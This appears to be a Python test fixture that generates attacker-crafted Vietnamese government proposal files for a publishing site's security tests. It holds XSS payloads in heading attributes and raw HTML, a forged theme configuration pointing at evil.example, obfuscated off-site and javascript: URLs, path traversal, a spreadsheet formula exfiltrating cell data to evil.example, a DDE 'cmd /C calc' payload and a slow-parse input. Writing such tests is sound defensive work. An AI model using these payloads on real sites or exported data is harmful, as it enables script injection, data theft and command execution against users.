"""Proposals written as an attacker would write them, for the site's attack tests (tests/test_site_attacks.py).

Each is a valid, approved proposal that `registry validate` accepts, so the site publishes it.
"""

from __future__ import annotations

FRONT = """---
id: "{id}"
title: "{title}"
summary: "{summary}"
unit: so-tu-phap
field: linh-vuc-khac
authors:
  - name: "{author}"
    position: "Chuyên viên"
    unit: so-tu-phap
status: approved
confidential: false
submitted: 2025-05-05
decision:
  outcome: approved
  date: 2025-05-12
  document: "78/QĐ-STP"
  signed_by: {{name: "Lê Văn Bình"}}
---
"""
SECTIONS = [
    "Sự cần thiết; căn cứ và cơ sở lý luận, thực tiễn; dự báo phạm vi tác động, tính khả thi",
    "Thực trạng vấn đề, nội dung đề xuất",
    "Định hướng mục tiêu, chỉ tiêu, nhiệm vụ, phương án triển khai và lộ trình thực hiện",
    "Tổ chức thực hiện",
    "Đề xuất, kiến nghị với cấp có thẩm quyền",
]


def proposal(
    id: str,
    texts: list[str],
    *,
    title: str = "Thí điểm một thủ tục mới",
    summary: str = "Tóm tắt ngắn của đề xuất.",
    author: str = "Trần Văn Thử",
    extra: str = "",
) -> str:
    """An approved proposal whose five sections hold ``texts``, followed by ``extra`` Markdown."""
    front = FRONT.format(id=id, title=title, summary=summary, author=author)
    body = "".join(f"\n## {heading}\n\n{text}\n" for heading, text in zip(SECTIONS, texts, strict=True))
    return front + body + extra


# 7. Attribute lists in headings: an id that breaks out of the table of contents' link, a class, a
# table-of-contents label holding HTML; and in a heading under a section (rendered ahead of the engine).
TOC_ID = "2025-951"
TOC = proposal(
    TOC_ID,
    ["Phần một.", "Phần hai.", "Phần ba.", "Phần bốn.", "Phần năm."],
    extra=(
        "\n## Tóm tắt {: id='x\" autofocus onfocus=\"window.__pwned=71;alert(71)' }\n\nMột.\n"
        "\n## Phụ lục {: .md-header data-toc-label='<img src=x onerror=\"window.__pwned=72\">' }\n\nHai.\n"
        '\n### Chi tiết {: id="__search" onclick="window.__pwned=73" }\n\nBa.\n'
    ),
)

# 8. Ids the theme reads: a heading whose slug is __config, and a raw HTML heading whose id is
# __config and whose text is a configuration that points the theme at another host.
CONFIG_ID = "2025-952"
EVIL_CONFIG = (
    '{"base":"https://evil.example/a/","features":["navigation.instant"],"search":"https://evil.example/w.js",'
    '"tags":null,"translations":{},"version":{"provider":"mike","default":"x"}}'
)
CONFIG = proposal(
    CONFIG_ID,
    [
        f'<h3 id="__config">{EVIL_CONFIG}</h3>',
        '<h2 id="__drawer">Ngăn kéo</h2>',
        "Phần ba.",
        "Phần bốn.",
        "Phần năm.",
    ],
    extra="\n## __config\n\nMột.\n\n## __toc\n\nHai.\n",
)
THEME_IDS = ("__config", "__search", "__drawer", "__toc", "__consent", "__settings", "__analytics")

# 9. URLs that a browser resolves outside the site although they look relative.
URLS_ID = "2025-953"
URLS = proposal(
    URLS_ID,
    [
        '<img src="&#9;/&#9;/evil.example/tab.png" alt="tab">',
        '<img src="/&#10;/evil.example/newline.png" alt="newline"> <img src="&#13;//evil.example/cr.png" alt="cr">',
        "[lên](%2e%2e/%2e%2e/%2e%2e/registry.yml) "
        '<a href="%2E%2E/%2e%2E/%2e%2e/%2e%2e/registry.yml">mã hóa</a> '
        '<a href=".%2e/.%2e/.%2e/.%2e/registry.yml">nửa</a>',
        '<a href="&#9;javascript:window.__pwned=91">tab js</a> <a href="\\\\evil.example\\x">gạch ngược</a> '
        '<img src="%5C%5Cevil.example/pct.png" alt="pct">',
        "[nội bộ](#thuc-trang) [trang khác](../2024-001/)",
    ],
)

# 10. A summary equal to a pre-rendering placeholder of the old, guessable form (the schema wants 20
# characters: a no-break space, which the page's Markdown drops, makes up the count).
PLACEHOLDER_ID = "2025-954"
FORGED = "RGSTRSECTION0000001"
PLACEHOLDER = proposal(
    PLACEHOLDER_ID,
    ["Phần một.", "Phần hai.", "Phần ba.", "Phần bốn.", "Phần năm."],
    summary=FORGED + "\u00a0",
)

# 11. Spreadsheet formulas in the open data.
FORMULA_ID = "2025-955"
FORMULA_TITLE = '=HYPERLINK("https://evil.example/?d="&A1,"Bấm")'
FORMULA = proposal(
    FORMULA_ID,
    ["Phần một.", "Phần hai.", "Phần ba.", "Phần bốn.", "Phần năm."],
    title=FORMULA_TITLE.replace('"', '\\"'),
    summary="+1+cmd|' /C calc'!A0",
    author="-Trần Văn Thử",
)

# 13. A body that Python-Markdown's inline patterns take minutes over.
SLOW_ID = "2025-956"
SLOW = proposal(SLOW_ID, ["[" * 100_000, "Phần hai.", "Phần ba.", "Phần bốn.", "Phần năm."])

# 14. A body whose text closes its section's element and leaves others open, which would wrap the page's
# next headings in a table cell if the page were cleaned as one piece.
ENCLOSING_ID = "2025-957"
ENCLOSING = proposal(
    ENCLOSING_ID,
    ["</div></div></article><table><tr><td>Mở bảng", "<div><blockquote>Mở khối", "Phần ba.", "Phần bốn.", "Phần năm."],
)

ATTACKS = {
    f"so-tu-phap/{TOC_ID}-muc-luc.md": TOC,
    f"so-tu-phap/{CONFIG_ID}-cau-hinh.md": CONFIG,
    f"so-tu-phap/{URLS_ID}-duong-dan.md": URLS,
    f"so-tu-phap/{PLACEHOLDER_ID}-cho-giu-cho.md": PLACEHOLDER,
    f"so-tu-phap/{FORMULA_ID}-cong-thuc.md": FORMULA,
    f"so-tu-phap/{SLOW_ID}-cham.md": SLOW,
    f"so-tu-phap/{ENCLOSING_ID}-bao-quanh.md": ENCLOSING,
}
